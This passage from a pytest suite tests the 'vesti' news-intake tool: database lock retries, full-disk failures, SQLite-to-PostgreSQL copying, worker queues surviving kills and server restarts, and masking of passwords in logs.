        # A parameter cut short would still show a piece of it.
        assert not [never[i:i + 12] for i in range(len(never) - 11) if never[i:i + 12] in logged]
    # The statements that wrote and copied them were logged, without them.
    kept_by_serve = [s for _, s in sql_lines(err) if s.startswith("INSERT INTO meta")]
    assert any("VALUES ('web_password', " in s and s.endswith("; (***, ***)")
               for s in kept_by_serve)
    assert any("; ('web_secret', ***, '" in s for s in kept_by_serve)
    # The copy of meta is logged with its first row: a secret one masked
    # (which key is first depends on what else serve wrote meanwhile).
    [first] = [m for _, s in sql_lines(copy.stderr) if s.startswith("INSERT INTO meta")
               for m in [re.search(r"; \d+ rows, the first: \('(\w+)', ([^,]*),", s)] if m]
    assert first[2] == "***" if first[1] in ("web_password", "web_secret") else first[2] != "***"


# Connections: a locked database, a full disk ----------------------------------

LOCK_HOLDER = """
import select, sqlite3, sys
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("BEGIN IMMEDIATE")
conn.execute("UPDATE sources SET name = name")       # a long manual UPDATE
print("locked", flush=True)
select.select([sys.stdin], [], [], 30)                # until told (or 30 s)
conn.execute("COMMIT")
"""


def write_lock_held(closing, path):
    """Another process holds the database's write lock until release()."""
    holder = closing(subprocess.Popen([sys.executable, "-c", LOCK_HOLDER, str(path)], text=True,
                                      stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE))
    holder.release = lambda: (holder.stdin.write("\n"), holder.stdin.flush())
    assert holder.stdout.readline() == "locked\n", holder.stderr.read()
    return holder


class Output:
    """The lines a child process writes to a pipe, read as they come."""

    def __init__(self, pipe):
        self.lines = []
        self.thread = threading.Thread(target=lambda: self.lines.extend(pipe), daemon=True)
        self.thread.start()

    def text(self, timeout=None):
        self.thread.join(timeout)
        return "".join(self.lines)


def locked_warnings(text):
    return [line for line in text.splitlines() if "is locked" in line]


def wait_out_the_lock(holder, child, err):
    """Keep the lock until the child says it is waiting for it (it has waited
    out its busy timeout), a little longer still, then let go."""
    assert wait_for(lambda: locked_warnings(err.text(0)) or child.poll() is not None, 10)
    if child.poll() is None:
        time.sleep(0.3)
    holder.release()
    assert holder.wait(timeout=10) == 0


def test_a_lock_of_a_moment_is_waited_out_without_a_warning(tmp_path, caplog):
    """SQLite answers some statements "database is locked" at once (another
    connection of the process switching the file to WAL as it opens): a
    few such answers in a row are no episode to warn of; a second of them is."""
    conn = vesti.connect(str(tmp_path / "vesti.db"))
    answers = iter([True] * 3 + [False])

    def locked_a_moment(sql, parameters):
        if next(answers):
            raise sqlite3.OperationalError("database is locked")
        return "done"
    with caplog.at_level(logging.WARNING, logger="vesti"):
        assert conn._retrying(locked_a_moment, "SELECT 1", ()) == "done"
    assert not [r for r in caplog.records if "is locked" in r.getMessage()]
    until = time.monotonic() + vesti.BUSY_GRACE + 0.2

    def locked_a_while(sql, parameters):
        if time.monotonic() < until:
            raise sqlite3.OperationalError("database is locked")
        return "done"
    with caplog.at_level(logging.WARNING, logger="vesti"):
        assert conn._retrying(locked_a_while, "SELECT 1", ()) == "done"
    assert len([r for r in caplog.records if "is locked" in r.getMessage()]) == 1


def test_a_stopping_process_waits_out_a_lock_of_a_moment_and_gives_up_on_a_longer_one(tmp_path):
    """A stop's last writes (a send marked uncertain) are not lost to
    another thread's moment of writing; a lock held longer is not waited
    for, so the stop is not held up."""
    conn = vesti.connect(str(tmp_path / "vesti.db"))
    conn.process.stopping.set()
    answers = iter([True] * 3 + [False])

    def locked_a_moment(sql, parameters):
        if next(answers):
            raise sqlite3.OperationalError("database is locked")
        return "done"
    assert conn._retrying(locked_a_moment, "UPDATE x", ()) == "done"

    def locked(sql, parameters):
        raise sqlite3.OperationalError("database is locked")
    started = time.monotonic()
    with pytest.raises(vesti.StorageError, match="since the process is stopping"):
        conn._retrying(locked, "UPDATE x", ())
    assert time.monotonic() - started < vesti.BUSY_GRACE + 1


@pytest.mark.slow
def test_a_forever_worker_waits_out_a_database_locked_past_the_busy_timeout(home, closing):
    s, db, _ = worker_home(home, "")
    add_posts(db.conn(), 40)
    holder = write_lock_held(closing, home / "vesti.db")
    worker = closing(worker_process(home, "", "--forever", "--workers", "2",
                                    env={"VESTI_BUSY_TIMEOUT": "0.5"}))
    out, err = Output(worker.stdout), Output(worker.stderr)
    wait_out_the_lock(holder, worker, err)
    assert worker.poll() is None, err.text()             # still running after the lock
    assert wait_for(lambda: queue_of(db) == {1: 40}, state=lambda: queue_of(db))
    worker.send_signal(signal.SIGTERM)
    assert worker.wait(timeout=15) == 0, err.text()
    assert -1 not in queue_of(db)
    assert "(40 done" in out.text(), out.text()
    assert len(locked_warnings(err.text())) == 1, err.text()   # one warning per episode
    assert "Traceback" not in err.text()


@pytest.mark.slow
def test_a_crawl_started_while_the_database_is_locked_waits_and_stores_its_posts(home, server,
                                                                              closing):
    server.feed("/a", rss(items(5, host=server.url)))
    server.feed("/b", rss(items(5, start=100, host=server.url)))
    s, db = intake(home, [rss_source("a", server.url + "/a"), rss_source("b", server.url + "/b")])
    holder = write_lock_held(closing, home / "vesti.db")
    crawl = closing(subprocess.Popen(
        [*VESTI, "rss", "--all"], cwd=home, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "VESTI_BUSY_TIMEOUT": "0.5", "RSS_HOST_DELAY": "0"}))
    out, err = Output(crawl.stdout), Output(crawl.stderr)
    wait_out_the_lock(holder, crawl, err)
    assert crawl.wait(timeout=30) == 0, err.text()
    assert "2 sources (2 ok" in out.text(), out.text()
    assert db.conn().execute("SELECT count(*) FROM posts").fetchone()[0] == 10
    assert len(locked_warnings(err.text())) == 1, err.text()
    assert "Traceback" not in err.text()
    assert {source_row(db, slug)["error_count"] for slug in ("a", "b")} == {0}


def run_on_a_small_disk(home, *args, env=None, timeout=60):
    """vesti.py as `cli` runs it, but no file it writes may grow past a bit
    more than the database is now: a disk that is about to be full."""
    files = [home / name for name in ("vesti.db", "vesti.db-wal", "vesti.db-shm")]
    limit = max([f.stat().st_size for f in files if f.exists()] + [32768]) + 256 * 1024

    def small_disk():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)      # a write fails with EFBIG instead
    full_env = {k: v for k, v in os.environ.items()
                if not k.startswith(("VESTI_", "RSS_", "OLLAMA_", "TG_"))}
    # Python would write vesti.py's bytecode cut at the limit (it does not
    # check the length of that write) and every later import would fail.
    full_env["PYTHONDONTWRITEBYTECODE"] = "1"
    full_env.update(env or {})
    return subprocess.run([*VESTI, *args], cwd=home,
                          env=full_env, capture_output=True, text=True, timeout=timeout,
                          preexec_fn=small_disk)


def big_feed(start, host):
    return rss([{**entry, "text": entry["text"] + " Long paragraph of the article. " * 100}
                for entry in items(200, start=start, host=host)])


@pytest.mark.slow
def test_a_full_disk_ends_the_crawl_with_one_line_and_blames_no_source(home, closing):
    servers = [closing(FeedServer(f"127.0.0.{n}")) for n in (1, 2, 3)]   # three hosts at once
    for n, feeds in enumerate(servers):
        feeds.feed("/feed", big_feed(1000 * n, feeds.url))
    write_sources(home / "sources.yaml", [rss_source(f"s{n}", f"{feeds.url}/feed")
                                          for n, feeds in enumerate(servers)])
    assert cli("init", cwd=home).returncode == 0
    result = run_on_a_small_disk(home, "rss", "--all", env={"RSS_HOST_DELAY": "0"})
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert result.stderr.startswith("vesti: ") and result.stderr.count("\n") == 1, result.stderr
    assert "vesti.db" in result.stderr and "Traceback" not in result.stderr
    conn = sqlite3.connect(home / "vesti.db")
    health = conn.execute("SELECT slug, status, error_count FROM sources ORDER BY slug").fetchall()
    assert health == [("s0", "alive", 0), ("s1", "alive", 0), ("s2", "alive", 0)]


def test_a_full_disk_ends_the_worker_with_one_line(home):
    s, db, _ = worker_home(home, "")
    add_posts(db.conn(), 500)
    db.close()                               # checkpointed: the posts are in vesti.db
    result = run_on_a_small_disk(home, "worker", "--workers", "2", env={"OLLAMA_URL": ""})
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert result.stderr.startswith("vesti: ") and result.stderr.count("\n") == 1, result.stderr
    assert "vesti.db" in result.stderr and "Traceback" not in result.stderr
    queue = dict(sqlite3.connect(home / "vesti.db")
                 .execute("SELECT classified, count(*) FROM posts GROUP BY 1").fetchall())
    assert 0 < queue.get(0, 0) < 500 and -2 not in queue   # stopped part-way; nothing failed


# Connections: PostgreSQL, one queue for many machines -------------------------

def test_the_postgresql_schema_is_made_from_the_same_table_definitions():
    sqlite_tables = {(t, c) for t, c, _, _ in vesti.schema_columns()}
    objects = {name: create for name, _, create in vesti.postgres_schema()}
    for table in {t for t, _ in sqlite_tables}:
        columns = re.findall(r"^\s+(\w+) ", objects[table], re.M)
        assert {(table, c) for c in columns if c not in ("PRIMARY", "UNIQUE")} == \
            {(t, c) for t, c in sqlite_tables if t == table}
    indexes = {s.split()[5] for s in vesti.schema_statements() if s.startswith("CREATE INDEX")}
    assert indexes <= set(objects)
    assert "datetime(" not in " ".join(objects.values()) and "WITHOUT ROWID" not in str(objects)


@postgres_only
def test_a_postgresql_database_has_every_table_column_and_index(home, backend):
    s, db = intake(home, [])
    conn = db.conn()
    columns = {(r[0], r[1]) for r in conn.execute(
        "SELECT table_name, column_name FROM information_schema.columns "
        "WHERE table_schema = current_schema()")}
    assert {(t, c) for t, c, _, _ in vesti.schema_columns()} <= columns
    indexes = {r[0] for r in conn.execute("SELECT indexname FROM pg_indexes "
                                          "WHERE schemaname = current_schema()")}
    assert {s.split()[5] for s in vesti.schema_statements() if s.startswith("CREATE INDEX")} <= indexes
    started = time.monotonic()
    vesti.Database(backend).close()                      # up to date: opens at once
    assert time.monotonic() - started < 1


def test_without_psycopg_a_postgresql_url_is_one_line_and_exit_2(home):
    write_sources(home / "sources.yaml", [])
    (home / "sitecustomize.py").write_text(
        "import sys\nclass Block:\n    def find_spec(self, name, *args):\n"
        "        if name == 'psycopg':\n            raise ImportError(name)\n"
        "sys.meta_path.insert(0, Block())\n")
    result = cli("status", cwd=home, env={"VESTI_DB": "postgresql://u:secret@127.0.0.1:9/x",
                                          "PYTHONPATH": str(home)})
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [
        "vesti: a PostgreSQL database needs the 'psycopg[binary]' package: "
        "pip install psycopg[binary]"]


def test_an_unreachable_postgresql_is_one_line_and_exit_2_without_the_password(home):
    pytest.importorskip("psycopg")
    write_sources(home / "sources.yaml", [])
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    result = cli("status", cwd=home, env={"VESTI_DB": f"postgresql://u:s3cret@127.0.0.1:{port}/x"})
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "cannot open the database" in lines[0]
    assert f"postgresql://u:***@127.0.0.1:{port}/x" in lines[0] and "s3cret" not in result.stderr


@pytest.mark.slow
@postgres_only
def test_copy_db_moves_everything_to_postgresql_and_back_and_twice_changes_nothing(home, backend,
                                                                                   closing):
    file_db = str(home / "vesti.db")
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss",
                                                     direction="linux")])
    s = make_settings(home).replace(db=file_db)
    registry, db = vesti.open_intake(s)
    conn = db.conn()
    for k in range(1, 8):
        desk_post(conn, 1, k, title=f"Post {k} «кириллица»", relevance=k)
    vesti.set_decision(conn, 3, "approved", "editor")
    conn.execute("INSERT INTO runs (source_id, task, status) VALUES (1, 'rss', 'ok')")
    vesti.set_meta(conn, "web_secret", "kept")
    first = cli("copy-db", "--to", backend, cwd=home, env={"VESTI_DB": file_db})
    assert first.returncode == 0, first.stderr
    assert re.search(r"copy-db: 1 sources, .*7 posts, 0 runs|copy-db: 1 sources, .*7 posts, 1 runs",
                     first.stdout), first.stdout
    again = cli("copy-db", "--to", backend, cwd=home, env={"VESTI_DB": file_db})
    assert again.returncode == 0, again.stderr
    pg = vesti.Database(backend).conn()

    def rows(c, sql):
        return [tuple(r) for r in c.execute(sql)]
    for sql in ("SELECT id, title, status, decided_by, relevance, published_at FROM posts ORDER BY id",
                "SELECT id, slug, url, direction FROM sources ORDER BY id",
                "SELECT id, source_id, status FROM runs ORDER BY id",
                "SELECT direction, approved, rejected FROM learners ORDER BY 1",
                "SELECT direction, feature, approved, rejected FROM learned_words ORDER BY 1, 2"):
        assert rows(pg, sql) == rows(conn, sql)
    assert rows(pg, "SELECT direction, approved FROM learners") == [("linux", 1)]
    assert vesti.get_meta(pg, "web_secret")[0] == "kept"
    assert counts_match_posts(pg)
    page = closing(Web(home, settings=s.replace(db=backend, web_password="pw"), password="pw"))
    assert "Post 3" in page.get("/?status=approved&min=0")[2]
    found = page.get(f"/?q={urllib.parse.quote('кириллица')}&min=0&status=any")[2]
    assert len(card_ids(found)) == 7
    new_id = pg.execute("INSERT INTO posts (source_id, title) VALUES (1, 'after the copy') "
                        "RETURNING id").fetchone()[0]
    assert new_id == 8                                   # ids go on after the copied ones
    back = cli("copy-db", "--to", str(home / "back.db"), cwd=home, env={"VESTI_DB": backend})
    assert back.returncode == 0, back.stderr
    assert len(rows(sqlite3.connect(home / "back.db"), "SELECT id FROM posts")) == 8
    conn.execute("DELETE FROM runs")                     # a later copy brings the target up to date
    assert cli("copy-db", "--to", backend, cwd=home, env={"VESTI_DB": file_db}).returncode == 0
    assert rows(pg, "SELECT count(*) FROM runs") == [(0,)] and \
        rows(pg, "SELECT count(*) FROM posts") == [(7,)]
    other = cli("copy-db", "--to", str(home / "back.db"), cwd=home, env={"VESTI_DB": file_db})
    assert other.returncode == 2                         # back.db is a copy of the other one
    assert other.stderr.strip().endswith("holds 8 posts that are not a copy of "
                                         f"{file_db}; copy into an empty database")


@postgres_only
@pytest.mark.parametrize("to_postgresql", [True, False], ids=["to-postgresql", "to-sqlite"])
def test_an_interrupted_copy_db_is_completed_by_running_it_again(home, backend, monkeypatch,
                                                                 to_postgresql):
    file_db = str(home / "vesti.db")
    source_db, target_db = (file_db, backend) if to_postgresql else (backend, file_db)
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss",
                                                     direction="linux")])
    _, db = vesti.open_intake(make_settings(home).replace(db=source_db))
    conn = db.conn()
    for k in range(1, 11):
        desk_post(conn, 1, k, title=f"Wombat {k}", relevance=k % 10)
    vesti.set_decision(conn, 3, "approved", "editor")
    conn.executemany("INSERT INTO runs (source_id, task, status) VALUES (1, 'rss', ?)",
                     [("ok",), ("error",), ("ok",)])
    conn.executemany("INSERT INTO story_keys (key, post_id) VALUES (?, ?)",
                     [(k * 7, k) for k in range(1, 11)])
    for k in range(1, 7):
        vesti.record_event(conn, "anna", "10.0.0.1", "decide", f"post:{k}", "approved")
    target = vesti.Database(target_db).conn()
    step = vesti.Progress.step
    # Amid the posts; before the runs; amid the events.
    for killed_after in ("posts 4", "posts 10", "events 4"):
        def kill(progress, note="", count=1, killed_after=killed_after):
            step(progress, note, count)
            if note == killed_after:
                raise KeyboardInterrupt
        monkeypatch.setattr(vesti.Progress, "step", kill)
        with pytest.raises(KeyboardInterrupt):
            vesti.copy_database(conn, target, quiet=True, chunk=4)
    monkeypatch.setattr(vesti.Progress, "step", step)
    counts = vesti.copy_database(conn, target, quiet=True, chunk=4)
    assert (counts["posts"], counts["runs"], counts["story_keys"], counts["events"]) == (10, 3, 10, 6)

    def rows(c, sql):
        return [tuple(r) for r in c.execute(sql)]
    for sql in ("SELECT id, title, status, relevance, published_at FROM posts ORDER BY id",
                "SELECT id, slug, url FROM sources ORDER BY id",
                "SELECT id, source_id, status FROM runs ORDER BY id",
                "SELECT key, post_id FROM story_keys ORDER BY key",
                "SELECT id, at, user_name, action, subject, detail FROM events ORDER BY id"):
        assert rows(target, sql) == rows(conn, sql), sql
    assert counts_match_posts(target) and \
        rows(target, "SELECT sum(n) FROM post_counts") == [(10,)]
    found = vesti.desk_posts(target, vesti.DeskQuery(q="wombat", status="any", min=0))
    assert [post.id for post in found] == list(range(10, 0, -1))


@postgres_only
def test_copy_db_loses_no_row_to_a_postgresql_collation_of_a_language(home, backend,
                                                                    postgres_server, monkeypatch,
                                                                    request):
    """A server made with a language's collation (en-US puts 'B' after 'a'
    and passes over punctuation) orders text keys as SQLite does not: each
    chunk's range is still found in the other database, both ways."""
    psycopg = pytest.importorskip("psycopg")
    name = f"{postgres_server.prefix}_en_us"
    postgres_server.drop(postgres_server.database_url(name))
    try:
        postgres_server.admin(f"CREATE DATABASE {name} TEMPLATE template0 LOCALE_PROVIDER icu "
                              f"ICU_LOCALE 'en-US' LOCALE 'C.UTF-8'")
    except psycopg.Error as e:
        pytest.skip(f"no ICU collation on this PostgreSQL server: {e}")
    url = postgres_server.database_url(name)
    request.addfinalizer(lambda: postgres_server.drop(url))
    write_sources(home / "sources.yaml", [])
    _, db = vesti.open_intake(make_settings(home).replace(db=str(home / "vesti.db")))
    conn = db.conn()
    features = ["Zebra", "apple", "B", "b", "E", "e", "a_b", "ab", "a-c", "a c", "src:lwn",
                "srcb", "Ёж", "ежик", "éclair", "eclair"]
    conn.executemany("INSERT INTO learned_words (direction, feature, approved) "
                     "VALUES ('linux', ?, 1)", [(f,) for f in features])
    target = vesti.Database(url).conn()
    vesti.copy_database(conn, target, quiet=True, chunk=3)
    back = vesti.Database(str(home / "back.db")).conn()
    vesti.copy_database(target, back, quiet=True, chunk=3)
    for copy in (target, back):
        assert sorted(r[0] for r in copy.execute("SELECT feature FROM learned_words")) == \
            sorted(features)


def tables_of(conn):
    """The tables a migrated database has (FTS5's own tables behind posts_fts
    left out: they are the search index's insides)."""
    if conn.dialect is vesti.POSTGRES:
        return {r[0] for r in conn.execute("SELECT table_name FROM information_schema.tables "
                                           "WHERE table_schema = current_schema()")}
    found = dict(conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'table'"))
    virtual = [name for name, sql in found.items() if sql.startswith("CREATE VIRTUAL")]
    return {name for name in found
            if not name.startswith("sqlite_") and not name.startswith(tuple(f"{v}_" for v in virtual))}


@both
def test_copy_db_copies_every_table_of_the_schema_but_what_the_copy_makes_again(home, backend):
    """A table added to the schema and forgotten by copy-db is lost on a
    move: every table of a migrated database is copied, or is one of
    REBUILT_TABLES, which the target makes again from the copied posts:
    post_counts and source_post_counts (the desk's counts, by the target's
    own rules) and the search index (posts_fts on SQLite, post_words on
    PostgreSQL: neither has a place in the other dialect)."""
    write_sources(home / "sources.yaml", [])
    _, db = vesti.open_intake(make_settings(home))
    tables = tables_of(db.conn())
    copied = [table for table, _ in vesti.COPIED_TABLES]
    assert len(set(copied)) == len(copied)
    assert not set(copied) & set(vesti.REBUILT_TABLES)
    assert set(copied) <= tables, set(copied) - tables
    assert tables - set(copied) <= set(vesti.REBUILT_TABLES), tables - set(copied)
    assert {"users", "sessions", "events", "looks", "publications"} <= set(copied)
    schema = {s.split()[5] for s in vesti.schema_statements(fts5=False) if s.startswith("CREATE TABLE")}
    assert schema - set(copied) == {"post_counts", "source_post_counts"}
    for table, key in vesti.COPIED_TABLES:         # each key names its rows once
        columns = {c for t, c, _, _ in vesti.schema_columns() if t == table}
        assert set(key) <= columns, table
        db.conn().execute(f"SELECT {', '.join(key)} FROM {table} GROUP BY {', '.join(key)} "
                          f"HAVING count(*) > 1").fetchall()


@pytest.mark.slow
@postgres_only
def test_copy_db_moves_the_newsroom_to_postgresql_and_back_whole(home, backend, closing):
    """Accounts (whose passwords still sign in), sessions (whose cookies
    still work), the record of events and the looks arrive, both ways, and
    what is added after a copy gets ids of its own."""
    file_db, back_db = str(home / "vesti.db"), str(home / "back.db")
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss",
                                                     direction="linux")])
    s = make_settings(home).replace(db=file_db)
    _, db = vesti.open_intake(s)
    conn = db.conn()
    post = desk_post(conn, 1, 1)
    vesti.add_user(conn, "anna", "editor", "anna-password", "olga", "10.0.0.1")
    vesti.add_user(conn, "vera", "viewer", "vera-password", "olga", "10.0.0.1")
    vesti.change_user(conn, "vera", "olga", "10.0.0.1", disabled=True)
    cookie, _ = vesti.start_session(conn, "anna", "10.0.0.2")
    vesti.set_decisions(conn, [post], "approved", "anna", address="10.0.0.2")
    vesti.note_look(conn, post, "anna")
    conn.execute("INSERT INTO publications (post_id, target, state) VALUES (?, 'cms', 'published')",
                 (post,))
    newsroom = {table: f"SELECT * FROM {table} ORDER BY {', '.join(key)}"
                for table, key in vesti.COPIED_TABLES
                if table in ("users", "sessions", "events", "looks", "publications")}
    events = conn.execute("SELECT count(*) FROM events").fetchone()[0]
    assert events >= 4

    def rows(c, sql):
        return [tuple(r) for r in c.execute(sql)]

    def signs_in(database):
        page = closing(Web(home, settings=s.replace(db=database, web_password="pw"),
                           password="pw"))
        assert page.get("/", auth=False, headers=basic("anna", "anna-password"))[0] == 200
        assert page.get("/", auth=False, headers=basic("anna", "wrong-password"))[0] == 401
        assert page.get("/", auth=False, headers=basic("vera", "vera-password"))[0] == 401
        signed_in = {"Cookie": f"{vesti.SESSION_COOKIE}={cookie}"}
        status, _, body = page.get("/", auth=False, headers=signed_in)
        assert status == 200 and "anna" in body
        status, answer, _ = login(page, "anna", "anna-password")
        assert status == 303 and vesti.SESSION_COOKIE in answer["Set-Cookie"]

    copied = cli("copy-db", "--to", backend, cwd=home, env={"VESTI_DB": file_db})
    assert copied.returncode == 0, copied.stderr
    assert re.search(rf"1 publications, 2 users, 1 sessions, {events} events, 1 looks, "
                     rf"0 sign_in_failures copied to ", copied.stdout), copied.stdout
    assert "post_counts, source_post_counts and the search index made again" in copied.stdout
    pg = vesti.Database(backend).conn()
    for table, sql in newsroom.items():
        assert rows(pg, sql) == rows(conn, sql), table
    signs_in(backend)
    # What is recorded or queued on the copy goes on after the copied ids.
    recorded = rows(pg, "SELECT max(id) FROM events")[0][0]
    assert recorded > events                            # the sign-ins just now
    vesti.record_event(pg, "anna", "10.0.0.3", "sign out")
    pg.execute("INSERT INTO publications (post_id, target) VALUES (?, 'channel')", (post,))
    assert rows(pg, "SELECT max(id), count(*) FROM events") == [(recorded + 1, recorded + 1)]
    assert rows(pg, "SELECT max(id) FROM publications") == [(2,)]

    back = cli("copy-db", "--to", back_db, cwd=home, env={"VESTI_DB": backend})
    assert back.returncode == 0, back.stderr
    # The settings' account is a row now, made by the page's first start on the copy.
    assert re.search(rf"2 publications, 3 users, \d sessions, {recorded + 1} events, \d looks, "
                     rf"\d+ sign_in_failures copied",
                     back.stdout), back.stdout
    returned = vesti.Database(back_db).conn()
    for table, sql in newsroom.items():
        assert rows(returned, sql) == rows(pg, sql), table
    signs_in(back_db)


def outlive_lease(db, killed, lease_seconds):
    """Time passes for a killed worker's claims alone: their lease runs out
    now, while the live workers' claims keep theirs."""
    db.conn().execute("UPDATE posts SET claimed_at = ? WHERE classified = -1 AND claim_token LIKE ?",
                      (ago(lease_seconds + 1), f"{killed.pid}-%"))


@pytest.mark.slow
@postgres_only
def test_two_worker_processes_share_the_queue_and_survive_a_kill_9(home, backend, closing):
    fake = closing(FakeOllama(latency=0.1))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 60)
    # Long enough that a live worker's post never outlasts its lease
    # (a re-ask then would be right, but not the killed worker's).
    env = {"VESTI_LEASE_SECONDS": "4"}
    workers = [closing(worker_process(home, fake.url, "--workers", "4", "--forever", env=env))
               for _ in range(2)]
    one, two = workers
    assert wait_for(lambda: queue_of(db).get(1, 0) >= 10)
    one.kill()
    one.communicate()
    held = {row[0] for row in db.conn().execute(
        "SELECT title FROM posts WHERE classified = -1 AND claim_token LIKE ?",
        (f"{one.pid}-%",))}
    outlive_lease(db, one, 4)
    assert wait_for(lambda: queue_of(db) == {1: 60}, timeout=30,
                    state=lambda: (queue_of(db), two.poll()), patient=True)
    two.send_signal(signal.SIGTERM)
    _, err = two.communicate(timeout=15)
    assert two.returncode == 0, err
    asked = collections.Counter(fake.titles())
    assert set(asked) == {f"Post {k}" for k in range(60)}
    assert {title for title, n in asked.items() if n > 1} <= held   # only what the killed one held
    assert len(held) <= 2 * 4                            # asked, and the next one ready


@postgres_only
def test_two_overlapping_crawls_store_each_entry_once(home, backend, server):
    body = rss(items(40))

    def slow(request):
        time.sleep(0.3)
        return 200, {"Content-Type": "application/rss+xml"}, body
    server.routes["/feed"] = slow
    intake(home, [rss_source("slow", server.url + "/feed")])
    crawls = [subprocess.Popen([*VESTI, "rss", "--all"], cwd=home,
                               env={**os.environ, "VESTI_DB": backend}, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True) for _ in range(2)]
    for crawl_process in crawls:
        _, err = crawl_process.communicate(timeout=60)
        assert crawl_process.returncode == 0, err
    db = vesti.Database(backend)
    assert db.conn().execute("SELECT count(*), count(DISTINCT canonical_url) FROM posts").fetchone() \
        == (40, 40)
    assert [r["status"] for r in runs_of(db, "slow")] == ["ok", "ok"]


@pytest.mark.slow
@restarts_postgres
def test_a_worker_rides_out_a_postgresql_restart_and_loses_nothing(home, backend, postgres_server,
                                                                   closing):
    fake = closing(FakeOllama(latency=0.05))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 60)
    db.close()
    process = closing(worker_process(home, fake.url, "--workers", "4", "--forever"))
    check = vesti.Database(backend)
    assert wait_for(lambda: queue_of(check).get(1, 0) >= 10)
    check.close()
    postgres_server.stop()
    time.sleep(0.5)                                  # the workers find it gone
    postgres_server.start()
    check = vesti.Database(backend)
    assert wait_for(lambda: queue_of(check) == {1: 60}, timeout=30,
                    state=lambda: (queue_of(check), process.poll()), patient=True)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=15)
    assert process.returncode == 0, err
    assert err.count("database server cannot be reached; waiting for it") == 1, err
    assert set(fake.titles()) == {f"Post {k}" for k in range(60)}
    assert check.conn().execute("SELECT count(*) FROM posts WHERE error IS NOT NULL").fetchone()[0] == 0


@pytest.mark.slow
@restarts_postgres
def test_two_workers_and_a_crawler_on_postgresql_survive_a_kill_9_and_a_restart(
        home, backend, postgres_server, server, closing):
    """The README's set-up: `run --workers 0` crawls and serves, two `worker
    --forever` processes classify; one is killed with kill -9 and the
    database server restarts (for well under a lease, so no live worker's
    post outlasts its lease); every post is classified, none twice but what
    the killed one held."""
    fake = closing(FakeOllama(latency=0.05))
    entries = [40]
    server.routes["/feed"] = lambda request: (200, {"Content-Type": "application/rss+xml"},
                                              rss(items(entries[0], host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("wire", server.url + "/feed",
                                                     direction="linux")])
    env = {**os.environ, "VESTI_DB": backend, "OLLAMA_URL": fake.url,
           "RSS_HOST_DELAY": "0", "VESTI_CRAWL_EVERY": "1s", "VESTI_LEASE_SECONDS": "8",
           "VESTI_WEB_PORT": "0", "VESTI_WEB_PASSWORD": "pw"}

    def start(*args):
        return closing(subprocess.Popen([*VESTI, *args], cwd=home, env=env, text=True,
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE))
    crawler = start("run", "--workers", "0")
    port = int(re.search(r"http://127\.0\.0\.1:(\d+)/", first_lines(crawler))[1])
    workers = [start("worker", "--forever", "--workers", "4") for _ in range(2)]
    db = vesti.Database(backend)

    def queue():
        with contextlib.suppress(Exception):
            return queue_of(db)
        return None
    assert wait_for(lambda: (queue() or {}).get(1, 0) >= 10, timeout=30, state=queue,
                    patient=True)
    workers[0].kill()
    workers[0].communicate()
    held = {row[0] for row in db.conn().execute(
        "SELECT title FROM posts WHERE classified = -1 AND claim_token LIKE ?",
        (f"{workers[0].pid}-%",))}
    outlive_lease(db, workers[0], 8)
    postgres_server.stop()
    time.sleep(0.5)
    postgres_server.start()
    entries[0] = 60                                  # the feed gains 20 entries
    assert wait_for(lambda: queue() == {1: 60}, timeout=30, patient=True,
                    state=lambda: (queue(), crawler.poll(), workers[1].poll()))
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request("GET", "/api/queue", headers={
        "Authorization": "Basic " + base64.b64encode(b"admin:pw").decode()})
    assert json.loads(conn.getresponse().read())["failed"] == 0
    for process in (crawler, workers[1]):
        process.send_signal(signal.SIGTERM)
    for process in (crawler, workers[1]):
        _, err = ended(process)
        assert process.returncode == 0, err
        assert "pw" not in err
    asked = collections.Counter(fake.titles())
    assert set(asked) == {f"Post number {k}" for k in range(60)}
    assert {title for title, n in asked.items() if n > 1} <= held   # only what the killed one held
    assert len(held) <= 2 * 4                           # asked, and the next one ready
    stored = db.conn().execute("SELECT count(*), count(DISTINCT url) FROM posts").fetchone()
    assert tuple(stored) == (60, 60)


@pytest.mark.slow
@restarts_postgres
def test_a_stop_just_after_the_database_server_is_back_is_a_clean_stop(
        home, backend, postgres_server, server, closing):
    """`run` is told to stop a moment after PostgreSQL restarted, while its
    threads still wait to connect again: each tries the server once more,
    finds it, and the run stops as any other, with exit code 0."""
    server.routes["/feed"] = lambda request: (200, {"Content-Type": "application/rss+xml"},
                                              rss(items(5, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("wire", server.url + "/feed",
                                                     direction="linux")])
    env = {**os.environ, "VESTI_DB": backend, "OLLAMA_URL": "", "RSS_HOST_DELAY": "0",
           "VESTI_CRAWL_EVERY": "1s", "VESTI_WEB_PORT": "0", "VESTI_WEB_PASSWORD": "pw"}
    process = closing(subprocess.Popen([*VESTI, "run", "--workers", "2"], cwd=home, env=env,
                                       text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE))
    first_lines(process)
    db = vesti.Database(backend)
    assert wait_for(lambda: queue_of(db) == {1: 5}, state=lambda: queue_of(db))
    postgres_server.stop()
    time.sleep(1.5)             # its crawls look every second: they find it gone, and wait
    postgres_server.start()
    process.send_signal(signal.SIGTERM)
    _, err = ended(process)
    assert process.returncode == 0, err
